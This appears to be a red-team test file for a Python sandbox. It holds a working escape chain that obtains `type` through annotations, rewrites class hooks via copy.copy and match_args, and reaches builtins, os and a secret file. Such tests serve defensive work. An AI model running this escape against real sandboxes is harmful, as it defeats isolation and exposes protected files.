# family: red team, round 9 (annotation_base_derived_from_module_call)
# ANNOTATION_BASE accepts a name DERIVED from a module call (functools.reduce(...)); it returns the tool's
# object, whose __getitem__ receives `type` when the annotation runs.
import abc
import copy
import functools


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return int


keeper = functools.reduce(lambda a, b: b, [0, Keeper()])


def metaclass():
    def probe(value: keeper[type]) -> None:
        return None

    return keeper.kept[0]


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
